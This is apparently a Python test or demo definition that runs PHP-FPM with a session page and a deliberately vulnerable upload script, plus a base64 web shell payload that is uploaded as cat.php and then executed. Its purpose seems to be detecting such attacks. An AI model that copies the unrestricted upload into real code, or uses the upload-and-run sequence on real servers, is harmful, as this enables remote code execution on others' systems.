"""PHP-FPM over FastCGI: pages with sessions, and an upload that trusts the name it is given: a web shell's way in."""

import urllib.parse

from demo.programs.life import Life
from demo.programs.program import Attack, File, Program, left
from demo.programs.visitor import Visitor, client

_CHILD = "php-fpm: pool"
_POOL = """
[www]
user = www-data
group = www-data
listen = 127.0.0.1:9000
pm = dynamic
pm.max_children = 4
pm.start_servers = 2
pm.min_spare_servers = 1
pm.max_spare_servers = 3
pm.max_requests = 50
"""
_INDEX = """<?php
session_start();
$_SESSION['visits'] = ($_SESSION['visits'] ?? 0) + 1;
file_put_contents('/var/lib/app/visits.log', date('c') . "\\n", FILE_APPEND | LOCK_EX);
$temporary = tempnam('/tmp', 'php'); file_put_contents($temporary, 'x'); unlink($temporary);
echo "Ordinary page, visit " . $_SESSION['visits'];
"""
_UPLOAD = """<?php
file_put_contents('/var/www/html/photos/' . $_GET['name'], base64_decode($_GET['data']));
echo "kept";
"""
_SHELL = "PD9waHAgc3lzdGVtKCJpZCA+IC9zcnYvc2hhcmVkL3dlYnNoZWxsIik7Cg=="
"""`<?php system("id > /srv/shared/webshell");`"""


def _ask(life: Life, script: str, **query: str) -> str:
    """One request, by libfcgi's own client."""
    variables = {
        "SCRIPT_FILENAME": f"/var/www/html/{script}",
        "SCRIPT_NAME": f"/{script}",
        "REQUEST_METHOD": "GET",
        "QUERY_STRING": urllib.parse.urlencode(query),
    }
    words = ("env", *(f"{name}={value}" for name, value in variables.items()))
    return client(life, (*words, "cgi-fcgi", "-bind", "-connect", "127.0.0.1:9000")).stdout


def _load(visitor: Visitor) -> None:
    for number in range(10):
        said = _ask(visitor.life, "index.php")
        visitor.check("index", "Ordinary page, visit 1" in said, said)
        said = _ask(visitor.life, "upload.php", name=f"cat-{visitor.round}-{number}.jpg", data="eHl6")
        visitor.check("upload", "kept" in said, said)


def _rare(visitor: Visitor) -> None:
    visitor.life.signal("USR1")  # logs anew
    before = set(visitor.life.processes(_CHILD))
    visitor.life.signal(
        "USR2"
    )  # the master ends its children, in the middle of a request too, and starts itself anew
    visitor.life.wait("the old children to go", lambda: before.isdisjoint(visitor.life.processes(_CHILD)))
    visitor.life.wait("the new master", lambda: "Ordinary" in _ask(visitor.life, "index.php"))


def _web_shell(life: Life) -> None:
    _ask(life, "upload.php", name="cat.php", data=_SHELL)
    _ask(life, "photos/cat.php")


PROGRAM = Program(
    name="php-fpm",
    package="php8.2-fpm",
    command=("php-fpm8.2", "--nodaemonize"),
    port=9000,
    load=_load,
    rare=_rare,
    files=(
        File("/etc/php/8.2/fpm/pool.d/www.conf", _POOL),
        File("/var/www/html/index.php", _INDEX),
        File("/var/www/html/upload.php", _UPLOAD),
    ),
    prepare=(
        "mkdir -p /run/php /var/lib/app /var/www/html/photos",
        "chown www-data: /var/lib/app /var/www/html/photos",
    ),
    victim=_CHILD,
    attacks=(Attack("web shell dropped and called", _web_shell, left("webshell")),),
)
